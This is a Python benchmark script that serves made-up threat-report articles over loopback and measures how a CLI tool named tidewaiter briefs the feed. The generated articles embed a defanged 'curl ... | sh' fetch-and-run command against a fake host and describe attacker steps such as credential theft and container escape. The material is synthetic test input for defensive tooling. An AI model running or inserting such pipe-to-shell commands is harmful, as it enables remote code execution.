"""Measures `tidewaiter brief FEED -o DIR` on a feed of made articles: articles a second, memory, and a second run.

    python bench/brief_feed.py [--articles 100] [--store FILE] [--keep FOLDER]

The server is this process, on loopback; it gives validators, as most do. Each run is a whole process.
The second run must find everything as it was: the exit status is 1 where a file's bytes or its time changed.
"""

import argparse
import hashlib
import random
import sys
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from bench.process import run

_BRIEF = "from tidewaiter.cli import main; main(prog_name='tidewaiter')"
_SUBJECTS = ("The loader", "The group", "A script", "The operator", "Its second stage", "A scheduled task")
_DEEDS = (
    "starts a shell and fetches its orders from a server that was registered a day before",
    "copies itself to a temporary folder and hides there under the name of a system program",
    "dumps the credentials of the service account and sends them out over an encrypted channel",
    "asks the container engine for a privileged container and mounts the root of the host",
    "writes a cron entry so that it is started again after the machine was restarted",
    "looks for other machines in the network and tries the keys that it found in the home folder",
)
_FILLERS = (
    "We saw this on two machines in the same week, and the logs of both agree.",
    "The people who run the site told us that they had not noticed anything until the bill came.",
    "None of this is new, but it has not been seen in this order before.",
    "How the first machine was entered is not known, and we will not guess.",
)


def page(number: int) -> str:
    """One article of some 1,200 words, with a listing and a table of indicators; the same each time."""
    chance = random.Random(number)  # noqa: S311 - a benchmark's texts
    told = []
    for section in range(6):
        told.append(f"<h2>Stage {section + 1}</h2>")
        for _ in range(4):
            sentences = (
                f"{chance.choice(_SUBJECTS)} {chance.choice(_DEEDS)}. {chance.choice(_FILLERS)}" for _ in range(2)
            )
            told.append(f"<p>{' '.join(sentences)}</p>")
    address = f"198.51.100.{chance.randrange(1, 255)}"
    host = f"cdn-{chance.randrange(16**6):06x}.badsite{number}[.]top"
    told.append(f"<pre><code>curl -fsSL hxxp://{host}/a.sh | sh\nchmod 755 /tmp/.x{number}\n</code></pre>")
    hashes = "".join(f"<tr><td>SHA-256</td><td>{chance.randbytes(32).hex()}</td></tr>" for _ in range(12))
    rows = (
        f"<tr><td>Domain</td><td>{host}</td></tr><tr><td>IPv4</td><td>{address.replace('.', '[.]')}</td></tr>{hashes}"
    )
    told.append(f"<h2>Indicators of compromise</h2><table><tr><th>Type</th><th>Value</th></tr>{rows}</table>")
    head = f'<head><meta charset="utf-8"><title>A made campaign, number {number}</title></head>'
    body = f"<article><h1>A made campaign, number {number}</h1>{''.join(told)}</article>"
    related = "".join(f'<li><a href="/{other}.html">Another article, number {other}</a></li>' for other in range(20))
    return f"<html>{head}<body><nav><ul>{related}</ul></nav><main>{body}</main><footer>Made up.</footer></body></html>"


def feed(address: str, articles: int) -> str:
    """An RSS feed of them."""
    items = "".join(
        f"<item><title>A made campaign, number {n}</title><link>{address}/{n}.html</link><guid>{n}</guid>"
        f"<pubDate>Fri, {1 + n % 28:02d} Mar 2024 10:00:00 GMT</pubDate></item>"
        for n in range(articles)
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>Made</title>{items}</channel></rss>'


@contextmanager
def served(articles: int) -> Iterator[str]:
    """The address of the feed, as long as it is served."""
    held: dict[str, bytes] = {f"/{n}.html": page(n).encode() for n in range(articles)}

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            body = held.get(self.path)
            etag = f'"{hashlib.sha256(body).hexdigest()[:16]}"' if body is not None else ""
            is_known = body is not None and self.headers.get("If-None-Match") == etag
            self.send_response(404 if body is None else 304 if is_known else 200)
            body = b"" if body is None or is_known else body
            self.send_header("Content-Type", "application/rss+xml" if self.path == "/feed.xml" else "text/html")
            self.send_header("ETag", etag)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    address = f"http://127.0.0.1:{server.server_address[1]}"
    held["/feed.xml"] = feed(address, articles).encode()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"{address}/feed.xml"
    finally:
        server.shutdown()
        server.server_close()


def state(folder: Path) -> dict[str, tuple[int, str]]:
    """Each file's time and hash."""
    return {
        path.name: (path.stat().st_mtime_ns, hashlib.sha256(path.read_bytes()).hexdigest()) for path in folder.iterdir()
    }


def measure(articles: int, store: str | None, folder: Path) -> int:
    """Run twice and print what it took; 0 where the second run changed nothing."""
    with served(articles) as address:
        command = [sys.executable, "-c", _BRIEF, "brief", address, "-o", str(folder / "out"), "--most", str(articles)]
        command += ["--store", store] if store is not None else []
        first = run(command, folder / "first")
        before = state(folder / "out")
        second = run(command, folder / "second")
    is_same = state(folder / "out") == before
    size = sum((folder / "out" / name).stat().st_size for name in before)
    print(f"{(folder / 'first').read_text().strip()}")
    print(f"{(folder / 'second').read_text().strip()}")
    print("| run | seconds | articles/s | peak MB |")
    print("|---|---|---|---|")
    for name, ran in (("first", first), ("second", second)):
        print(f"| {name} | {ran.seconds:.2f} | {articles / ran.seconds:.1f} | {ran.peak_bytes / 1e6:.0f} |")
    print(f"{len(before)} files, {size / 1e6:.1f} MB; the second run changed {'nothing' if is_same else 'something'}")
    return 0 if is_same else 1


def main() -> int:
    """Read the options, measure."""
    parser = argparse.ArgumentParser(description="Measure tidewaiter brief on a feed of made articles.")
    parser.add_argument("--articles", type=int, default=100)
    parser.add_argument("--store", help="store of ATT&CK to look techniques up in; without, only those named by ids")
    parser.add_argument("--keep", type=Path, help="folder for what is written; without, it is removed")
    options = parser.parse_args()
    if options.keep is not None:
        options.keep.mkdir(parents=True, exist_ok=True)
        return measure(options.articles, options.store, options.keep)
    with tempfile.TemporaryDirectory() as folder:
        return measure(options.articles, options.store, Path(folder))


if __name__ == "__main__":
    sys.exit(main())
